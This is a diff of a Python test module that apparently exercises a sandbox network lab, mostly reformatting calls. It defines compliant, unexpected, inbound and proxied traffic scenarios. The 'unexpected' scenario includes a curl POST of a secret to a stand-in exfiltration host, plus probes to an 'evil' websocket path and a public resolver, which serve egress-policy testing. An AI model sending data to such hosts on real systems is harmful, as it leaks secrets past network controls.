@@ -11,8 +11,23 @@ from dataclasses import dataclass, field
 from subprocess import CompletedProcess
 
 from .lab import (
-    ANTHROPIC, ARCHIVE, CP_NAME, DENIED, EXFIL, GET, GHOST_SANDBOX, LAN, LOOKUP_ONLY, OPENAI, PUBLIC_RESOLVER,
-    REGISTRY, S3, SCANNER, WEB, Lab, LabCapture,
+    ANTHROPIC,
+    ARCHIVE,
+    CP_NAME,
+    DENIED,
+    EXFIL,
+    GET,
+    GHOST_SANDBOX,
+    LAN,
+    LOOKUP_ONLY,
+    OPENAI,
+    PUBLIC_RESOLVER,
+    REGISTRY,
+    S3,
+    SCANNER,
+    WEB,
+    Lab,
+    LabCapture,
 )
 from .netlab import ip
 
@@ -51,11 +66,31 @@ def compliant(lab: Lab) -> Run:
         c["wss"] = lab.websocket("sandbox", f"wss://{CP_NAME}{WS_CHANNELS[0]}")
         c["registry"] = lab.curl("sandbox", f"https://{REGISTRY}/v2/")
         c["get"] = lab.curl("sandbox", f"https://{GET}/install.sh")
-        c["git"] = lab.client("sandbox", "git", "clone", "-q", "https://github.com/helixml/demo.git",
-                              str(lab.dir / "clone"), timeout=60)
-        c["pip"] = lab.client("sandbox", *PIP, "download", "--no-deps", "--no-cache-dir", "--disable-pip-version-check",
-                              "--index-url", "https://pypi.org/simple/", "--cert", str(lab.ca),
-                              "-d", str(lab.dir / "wheels"), "labpkg", timeout=90)
+        c["git"] = lab.client(
+            "sandbox",
+            "git",
+            "clone",
+            "-q",
+            "https://github.com/helixml/demo.git",
+            str(lab.dir / "clone"),
+            timeout=60,
+        )
+        c["pip"] = lab.client(
+            "sandbox",
+            *PIP,
+            "download",
+            "--no-deps",
+            "--no-cache-dir",
+            "--disable-pip-version-check",
+            "--index-url",
+            "https://pypi.org/simple/",
+            "--cert",
+            str(lab.ca),
+            "-d",
+            str(lab.dir / "wheels"),
+            "labpkg",
+            timeout=90,
+        )
 
     return _run(lab, "compliant", "sandbox", "eth0", steps)
 
@@ -64,7 +99,9 @@ def unexpected(lab: Lab) -> Run:
     def steps(c: dict) -> None:
         c["exfil"] = lab.curl("sandbox", f"https://{EXFIL}/upload", "--data-binary", "secret=1")
         c["lookup"] = lab.client("sandbox", "dig", "+time=2", "+tries=1", LOOKUP_ONLY, "A")
-        c["resolver"] = lab.client("sandbox", "dig", "+time=2", "+tries=1", f"@{PUBLIC_RESOLVER}", REGISTRY, "A")
+        c["resolver"] = lab.client(
+            "sandbox", "dig", "+time=2", "+tries=1", f"@{PUBLIC_RESOLVER}", REGISTRY, "A"
+        )
         c["ws"] = lab.websocket("sandbox", f"ws://{CP_NAME}:8080/api/v1/ws/evil")
 
     return _run(lab, "unexpected", "sandbox", "eth0", steps)
@@ -76,8 +113,9 @@ def inbound(lab: Lab) -> Run:
     def steps(c: dict) -> None:
         c["accepted"] = lab.curl("inet", f"http://{sandbox}:47984/serverinfo", "--interface", SCANNER)
         c["reset"] = lab.curl("inet", f"http://{sandbox}:22/", "--interface", SCANNER)
-        c["silent"] = lab.curl("inet", f"http://{GHOST_SANDBOX}:48010/", "--interface", SCANNER,
-                               "--connect-timeout", "3")
+        c["silent"] = lab.curl(
+            "inet", f"http://{GHOST_SANDBOX}:48010/", "--interface", SCANNER, "--connect-timeout", "3"
+        )
 
     return _run(lab, "inbound", "sandbox", "eth0", steps)
 
@@ -116,5 +154,3 @@ def proxied(lab: Lab) -> Run:
         c["absolute_uri"] = lab.curl("sandbox", f"http://{ARCHIVE}/ubuntu/dists/noble/InRelease", "-x", proxy)
 
     return _run(lab, "proxied", "sandbox", "eth0", steps)
-
-
